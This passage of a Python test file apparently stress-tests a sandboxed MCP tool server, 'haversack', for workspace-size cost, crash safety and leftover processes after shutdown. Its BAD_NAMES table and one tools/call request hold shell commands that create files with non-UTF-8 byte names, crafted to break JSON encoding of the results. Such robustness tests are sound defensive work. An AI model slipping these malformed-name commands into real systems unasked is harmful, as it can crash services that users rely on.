            f"shell_execute('true') costs {full * 1000:.0f} ms with {files} files against "
            f"{empty * 1000:.0f} ms empty ({full / empty:.1f}x; the issue's target is 1.3x)"
        )
    return a.report()


def test_call_cost_follows_the_change_not_the_workspace(scratch: Path) -> None:
    """Item 9: ``shell_execute('true')`` with 30,000 files in the workspace stays within 3x
    of an empty workspace (generous: the issue's target is 1.3x at 50,000)."""
    _require_podman()
    assert_clean(run_attack("attack_cost", scratch, 240, variant="cost", files=30000))


# ------------------------------------------------------------ found by this pass (not in #13)

BAD_NAMES = {
    "file named with byte 0xff": "printf x > \"$(printf 'bad\\377name')\"",
    "directory named with 0xc3 0x28": (
        'd="$(printf \'dir\\303\\050\')"; mkdir "$d" && echo x > "$d/f"'
    ),
    "symlink to a non-UTF-8 target": "ln -s \"$(printf 'to\\377')\" link && echo x > plain",
    "name with a newline and 0xfe": "printf x > \"$(printf 'nl\\nx\\376')\"",
}


def attack_bad_names(scratch: str, variant: str) -> dict[str, Any]:
    a = Attack(scratch)
    a.must_ok(BAD_NAMES[variant] + " && echo x > ok.txt", "make the names")
    before = a.fingerprint()
    for tool, args in (
        ("ls", {"path": ""}),
        ("glob", {"pattern": "**/*"}),
        ("grep", {"pattern": "x"}),
        ("read_file", {"path": "ok.txt"}),
    ):
        result = a.call(tool, args, label=f"{tool} with a non-UTF-8 name present")
        if result is None:
            continue
        for what, text in (("render()", result.render()), ("message", result.message)):
            try:
                json.dumps({"content": text}, ensure_ascii=False).encode("utf-8")
            except UnicodeError as exc:
                a.problems.append(
                    f"{tool}: {what} cannot be sent to any client (JSON/UTF-8): {exc}"
                )
    a.sh("touch more; exit 8", label="failing call")
    if a.fingerprint() != before:
        a.problems.append("rollback with a non-UTF-8 name present was not exact")
    a.follow_up(variant)
    return a.report()


@pytest.mark.parametrize("variant", list(BAD_NAMES))
def test_non_utf8_names_keep_results_sendable(variant: str, scratch: Path) -> None:
    """Not in issue 13: a command names a file with bytes that are not UTF-8; the host-side
    ``ls``/``glob``/``grep`` then return text with lone surrogates (``\\udcff``), which no
    client can encode: every result must stay valid UTF-8."""
    _require_podman()
    assert_clean(run_attack("attack_bad_names", scratch, 180, variant=variant))


def test_serve_survives_a_non_utf8_name(scratch: Path) -> None:
    """Not in issue 13: over ``haversack serve``, one ``shell_execute`` that creates a file
    with a non-UTF-8 name, then ``ls``, must not take the MCP server down."""
    _require_podman()
    ws = scratch / "ws"
    ws.mkdir()
    (scratch / "haversack.toml").write_text(f'[packs.podman]\nworkspace_root = "{ws}"\n')
    cli = str(Path(sys.executable).with_name("haversack"))
    env = {k: v for k, v in os.environ.items() if not k.startswith("HAVERSACK_")}
    env.pop("XDG_RUNTIME_DIR", None)
    env["TMPDIR"] = str(scratch)
    proc = subprocess.Popen(
        [cli, "serve", "-p", "vfs", "-p", "podman", "--config", str(scratch / "haversack.toml")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
        cwd=scratch,
        start_new_session=True,
    )
    lines: queue.Queue[bytes] = queue.Queue()

    def pump() -> None:
        assert proc.stdout is not None
        for line in proc.stdout:
            lines.put(line)

    threading.Thread(target=pump, daemon=True).start()

    def ask(ident: int, method: str, params: dict[str, Any]) -> dict[str, Any] | None:
        assert proc.stdin is not None
        message = {"jsonrpc": "2.0", "id": ident, "method": method, "params": params}
        proc.stdin.write(json.dumps(message).encode() + b"\n")
        proc.stdin.flush()
        while True:
            try:
                value: dict[str, Any] = json.loads(lines.get(timeout=60))
            except queue.Empty:
                return None
            if value.get("id") == ident:
                return value

    try:
        hello = ask(
            1,
            "initialize",
            {
                "protocolVersion": "2024-11-05",
                "capabilities": {},
                "clientInfo": {"name": "redteam", "version": "0"},
            },
        )
        assert hello is not None, "initialize was not answered"
        assert proc.stdin is not None
        proc.stdin.write(b'{"jsonrpc": "2.0", "method": "notifications/initialized"}\n')
        proc.stdin.flush()
        made = ask(
            2,
            "tools/call",
            {
                "name": "shell_execute",
                "arguments": {"command": "printf x > \"$(printf 'bad\\377name')\""},
            },
        )
        assert made is not None, "shell_execute was not answered"
        listed = ask(3, "tools/call", {"name": "ls", "arguments": {}})
        after = ask(4, "tools/list", {})
        exit_code = proc.poll()
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()
        err = proc.stderr.read().decode(errors="replace") if proc.stderr else ""
        for pipe in (proc.stdin, proc.stdout, proc.stderr):
            if pipe is not None:
                with contextlib.suppress(OSError):
                    pipe.close()
    assert listed is not None, (
        f"`ls` over MCP got no reply (server exit code {exit_code}); stderr tail: {err[-600:]}"
    )
    assert after is not None, f"the server stopped answering after `ls`: {err[-600:]}"
    # Stopped with SIGTERM (how a supervisor stops a server), it rolls back and closes its
    # sandbox: before, its Podman service process outlived it, one per run.
    left = _processes_mentioning(str(scratch))
    if left:
        for pid in left:
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        _remove_containers_of(proc.pid, scratch)
    assert not left, (
        f"processes of the stopped server (exit code {proc.returncode}) outlived it: {left}; "
        f"stderr tail: {err[-1500:]}"
    )
    assert proc.returncode == 0, f"SIGTERM did not stop the server cleanly: {err[-600:]}"


def _processes_mentioning(text: str) -> dict[int, str]:
    """Running processes whose command line mentions ``text``."""
    found: dict[int, str] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if text in argv:
            found[int(entry.name)] = argv[:200]
    return found
